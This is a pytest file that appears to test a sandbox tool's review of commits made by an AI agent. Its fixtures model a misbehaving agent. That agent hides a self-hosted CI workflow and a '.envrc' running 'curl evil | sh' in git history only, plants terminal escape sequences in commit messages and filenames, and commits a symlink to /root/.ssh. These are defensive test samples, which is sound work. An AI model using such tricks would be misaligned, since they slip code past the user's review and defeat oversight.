"""The agent's commits are reviewed like its files: a real project repository, a workspace synced
from it by the real wsync.py, commits made there by "the agent", and the bundle made exactly as
the guest makes it (provision/guest/launcher.py `bundle`: git with no system or global config,
hooks off, `bundle create - HEAD --not <the host's commits>`). Then the real CLI: `vmsbx diff`
prints the log, the patch and the flags; `vmsbx show` lists the commits; the run summary says
what merging brings; `apply` holds a branch that touches sensitive paths back, like a file."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from sync_world import collect, sync

from vmsbx.config.models import SandboxSettings
from vmsbx.runs import gitbundle, review
from vmsbx.runs import record as records
from vmsbx.runs.record import RunRecord
from vmsbx.sync.driver import save_manifest

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="wsync.py runs as root in the guest")

RUN_ID = "c0ffee000001"
ESC = "\x1b"
# A subject that sets the terminal title and colours, then an unterminated OSC in the body that
# (with the old stripping) swallowed every line up to the next ESC: the patch below it.
HOSTILE_SUBJECT = f"agent: tidy {ESC}]0;pwned{ESC}\\{ESC}[31mred{ESC}[0m"
HOSTILE_BODY = f"\n\n{ESC}]8;;never closed\nnothing to see here\n"
_IDENTITY = ["-c", "user.email=agent@vmsbx", "-c", f"user.name=agent {ESC}[2J"]


def _git(repo: Path, *args: str, env: dict[str, str] | None = None) -> str:
    done = subprocess.run(
        ["git", "-C", str(repo), *args], capture_output=True, text=True, check=True, env=env
    )
    return done.stdout


def _guest_bundle(workspace: Path, bases: list[str], target: Path) -> None:
    """The guest's `bundle` verb without its systemd-run wrapper: same git argv, same env."""
    env = {"PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null",
           "HOME": "/nonexistent"}  # fmt: skip
    argv = ["git", "-c", "safe.directory=*", "-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null",
            "-C", str(workspace), "bundle", "create", "-", "HEAD"]  # fmt: skip
    if bases:
        argv += ["--not", *bases]
    with target.open("wb") as sink:
        subprocess.run(argv, stdout=sink, check=True, env=env)


class World:
    def __init__(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.home = tmp_path / "home"
        self.project = tmp_path / "project"
        self.workspace = tmp_path / "ws"
        monkeypatch.setenv("VMSBX_HOME", str(self.home))
        self.project.mkdir()
        self.workspace.mkdir()
        (self.project / "src").mkdir()
        (self.project / "src" / "app.py").write_text("def main():\n    return 1\n")
        (self.project / "README.md").write_text("# readme\n")
        _git(self.project, "init", "-q", "-b", "main")
        _git(self.project, "add", ".")
        _git(self.project, *_IDENTITY, "commit", "-qm", "init")
        self.bases = gitbundle.base_commits(self.project)
        self.synced = sync(self.project, self.workspace)
        # A hook in the user's repository (after the sync: the agent's copy has none): nothing
        # vmsbx does before apply may run it.
        hook = self.project / ".git" / "hooks" / "reference-transaction"
        hook.write_text(f"#!/bin/sh\ntouch {tmp_path / 'hook-ran'}\n")
        hook.chmod(0o755)
        self.hook_marker = tmp_path / "hook-ran"
        self.env = dict(os.environ)  # VMSBX_HOME set above

    def agent_commits(self, script: list[tuple[str, ...]]) -> None:
        for step in script:
            if step[0] == "git":
                _git(self.workspace, *_IDENTITY, *step[1:])
            elif step[0] == "write":
                path = self.workspace / step[1]
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(step[2])
            elif step[0] == "rm":
                shutil.rmtree(self.workspace / step[1])

    def finish(self, *, inspect: bool = True) -> Path:
        """What `finish`/`collect` leave in runs/<id>/changes, the bundle made like the guest."""
        changes = self.home / "runs" / RUN_ID / "changes"
        changes.mkdir(parents=True)
        save_manifest(self.synced.scan.manifest, changes / "base.json")
        (changes / "base-commits.json").write_text(json.dumps(self.bases))
        changeset, _ = collect(self.synced.scan.manifest, self.workspace, changes / "blobs")
        (changes / "changeset.json").write_text(changeset.model_dump_json())
        _guest_bundle(self.workspace, self.bases, changes / "commits.bundle")
        record = RunRecord(
            id=RUN_ID, vm="default", sandbox="systemd", command=("claude",), tty=False,
            policy=SandboxSettings(), unit="vmsbx-run-x", started_at=records.now(), state="exited",
            project=str(self.project), changes="collected",
        )  # fmt: skip
        records.save(record)
        self.refs_before = _git(self.project, "for-each-ref")
        return changes

    def vmsbx(self, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "vmsbx", *args], capture_output=True, text=True, env=self.env,
            check=False, timeout=300,
        )  # fmt: skip

    def user_repo_untouched(self) -> None:
        assert _git(self.project, "for-each-ref") == self.refs_before
        assert not self.hook_marker.exists()


# The attack from the issue: a commit adds a CI workflow and the work-tree copy is deleted, so
# the file changes show nothing; plus a `.envrc` that only the history holds.
SNEAKY = [
    ("write", ".github/workflows/x.yml", "on: push\njobs: {pwn: {runs-on: self-hosted, steps: [run: id]}}\n"),
    ("write", "src/app.py", "def main():\n    return 2\n"),
    ("git", "add", "."),
    ("git", "commit", "-qm", HOSTILE_SUBJECT + HOSTILE_BODY),
    ("write", ".envrc", "curl evil | sh\n"),
    ("git", "add", ".envrc"),
    ("git", "commit", "-qm", "agent: add envrc"),
    ("git", "rm", "-q", ".envrc"),
    ("git", "commit", "-qm", "agent: drop envrc"),
    ("rm", ".github"),
]


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    return World(tmp_path, monkeypatch)


def test_diff_prints_the_commits_log_patch_and_flags_the_workflow(world: World) -> None:
    world.agent_commits(SNEAKY)
    world.finish()
    done = world.vmsbx("diff", RUN_ID)
    assert done.returncode == 0, done.stderr
    out = done.stdout
    assert not (world.workspace / ".github").exists()  # the work tree no longer has it ...
    assert "3 new, as branch vmsbx/" in out  # ... but the commits do
    assert f"merging vmsbx/{RUN_ID} brings 2 path(s)" in out
    flagged = [line for line in out.splitlines() if "[sensitive]" in line]
    assert any(".github/workflows/x.yml" in line for line in flagged), out
    assert any(".envrc" in line and "history" in line for line in flagged), out
    assert "held back" in out and "--include-sensitive" in out
    # The log and the patch against the base.
    assert "agent: add envrc" in out and "agent: drop envrc" in out
    assert "+++ b/.github/workflows/x.yml" in out and "+on: push" in out
    assert "-    return 1" in out and "+    return 2" in out
    # Hostile text: no escape survives, and the unterminated OSC did not hide the patch.
    assert ESC not in out and "\x07" not in out
    assert "agent: tidy" in out and "nothing to see here" in out
    assert out.index("nothing to see here") < out.index("+on: push")
    world.user_repo_untouched()

    as_json = json.loads(world.vmsbx("diff", "--json", RUN_ID).stdout)
    paths = {p["path"]: p for p in as_json["commits"]["paths"]}
    assert paths[".github/workflows/x.yml"]["classification"] == "sensitive"
    assert paths[".github/workflows/x.yml"]["change"] == "added"
    assert paths[".envrc"]["change"] == "history" and paths[".envrc"]["classification"] == "sensitive"
    assert paths["src/app.py"]["classification"] == "apply"
    assert as_json["commits"]["fork_point"] == world.bases[0]


def test_show_lists_the_commits_and_their_flagged_paths(world: World) -> None:
    world.agent_commits(SNEAKY)
    world.finish()
    text = world.vmsbx("show", RUN_ID)
    assert text.returncode == 0, text.stderr
    assert "commits         3 new" in text.stdout and "3 flagged" not in text.stdout
    assert "2 flagged" in text.stdout
    assert ".github/workflows/x.yml  [sensitive]" in text.stdout
    assert "agent: add envrc" in text.stdout and ESC not in text.stdout
    report = json.loads(world.vmsbx("show", "--json", RUN_ID).stdout)
    flagged = [p["path"] for p in report["commits"]["paths"] if p["classification"] != "apply"]
    assert sorted(flagged) == [".envrc", ".github/workflows/x.yml"]
    page = world.vmsbx("show", "--html", RUN_ID).stdout
    assert '<ul id="commit-flagged">' in page and ".github/workflows/x.yml" in page
    assert ESC not in page
    world.user_repo_untouched()


def test_the_run_summary_says_what_merging_the_branch_brings(world: World) -> None:
    world.agent_commits(SNEAKY)
    changes = world.finish()
    commits = review.inspect_commits(RUN_ID, world.project, changes / "commits.bundle")
    changeset = review.stored(records.load(RUN_ID))
    lines = "\n".join(review.summary_lines(RUN_ID, changeset, commits))
    assert f"merging vmsbx/{RUN_ID} brings 2 path(s)" in lines
    assert "+ .github/workflows/x.yml  [sensitive]" in lines
    assert "held back (the commits touch paths that can run code" in lines
    assert ESC not in lines
    world.user_repo_untouched()


def test_apply_holds_a_branch_with_flagged_paths_back_until_include_sensitive(world: World) -> None:
    world.agent_commits(SNEAKY)
    world.finish()
    held = world.vmsbx("apply", "-y", RUN_ID)
    assert held.returncode == 0, held.stderr
    assert "held back, branch vmsbx/" in held.stdout and ".github/workflows/x.yml" in held.stdout
    world.user_repo_untouched()  # not fetched
    assert json.loads((world.home / "runs" / RUN_ID / "run.json").read_text())["changes"] == "collected"

    fetched = world.vmsbx("apply", "-y", "--include-sensitive", RUN_ID)
    assert fetched.returncode == 0, fetched.stderr
    assert f"merging vmsbx/{RUN_ID} brings 2 path(s)" in fetched.stdout
    assert "flagged" in fetched.stdout and ".github/workflows/x.yml" in fetched.stdout
    log = _git(world.project, "log", "--format=%s", f"vmsbx/{RUN_ID}")
    assert log.splitlines()[:3] == ["agent: drop envrc", "agent: add envrc", HOSTILE_SUBJECT]
    assert _git(world.project, "log", "--format=%s", "main").splitlines() == ["init"]
    assert json.loads((world.home / "runs" / RUN_ID / "run.json").read_text())["changes"] == "applied"


def test_plain_commits_are_fetched_and_named(world: World) -> None:
    world.agent_commits([
        ("write", "work.txt", "work\n"), ("git", "add", "work.txt"), ("git", "commit", "-qm", "agent: work"),
    ])  # fmt: skip
    world.finish()
    diff = world.vmsbx("diff", RUN_ID).stdout
    assert "brings 1 path(s)" in diff and "+ work.txt" in diff and "held back" not in diff
    applied = world.vmsbx("apply", "-y", RUN_ID)
    assert applied.returncode == 0, applied.stderr
    assert f"commit(s) are on branch vmsbx/{RUN_ID}" in applied.stdout and "+ work.txt" in applied.stdout
    log = _git(world.project, "log", "--format=%s", f"vmsbx/{RUN_ID}")
    assert log.splitlines() == ["agent: work", "init"]


def test_a_bundle_that_cannot_be_read_is_not_fetched(world: World) -> None:
    world.agent_commits(SNEAKY)
    changes = world.finish()
    (changes / "commits.bundle").write_bytes(b"# v2 git bundle\n" + b"\x1b[2Jgarbage\n")
    diff = world.vmsbx("diff", RUN_ID)
    assert diff.returncode == 0, diff.stderr
    assert "could not be inspected" in diff.stdout and ESC not in diff.stdout
    applied = world.vmsbx("apply", "-y", RUN_ID)
    assert "refused, branch vmsbx/" in applied.stdout
    world.user_repo_untouched()


def test_commits_with_names_vmsbx_refuses_are_never_fetched(world: World) -> None:
    for name in (b"evil\x1b]0;title", b"\xff.txt"):
        (world.workspace / os.fsdecode(name)).write_bytes(b"x\n")
    (world.workspace / "keys").symlink_to("/root/.ssh")
    _git(world.workspace, "add", "-A")
    _git(world.workspace, *_IDENTITY, "commit", "-qm", "agent: odd names")
    _git(world.workspace, "rm", "-q", "--cached", "keys")
    _git(world.workspace, *_IDENTITY, "commit", "-qm", "agent: drop the link")
    for name in (b"evil\x1b]0;title", b"\xff.txt", b"keys"):
        (world.workspace / os.fsdecode(name)).unlink()
    world.finish()
    diff = world.vmsbx("diff", RUN_ID)
    assert diff.returncode == 0, diff.stderr
    assert ESC not in diff.stdout
    assert "never brings back, so `vmsbx apply` will not fetch them: 2" in diff.stdout
    reviewed = json.loads(world.vmsbx("diff", "--json", RUN_ID).stdout)["commits"]
    reasons = {p["path"]: (p["classification"], p["change"], p["reason"]) for p in reviewed["paths"]}
    assert reasons["evil\x1b]0;title"][:2] == ("refused", "added")
    assert reasons["\\xff.txt"] == ("refused", "added", "name is not valid UTF-8")
    assert reasons["keys"][:2] == ("sensitive", "history") and "symbolic link" in reasons["keys"][2]
    applied = world.vmsbx("apply", "-y", "--include-sensitive", RUN_ID)
    assert applied.returncode == 0, applied.stderr
    assert "refused, branch vmsbx/" in applied.stdout and ESC not in applied.stdout
    world.user_repo_untouched()
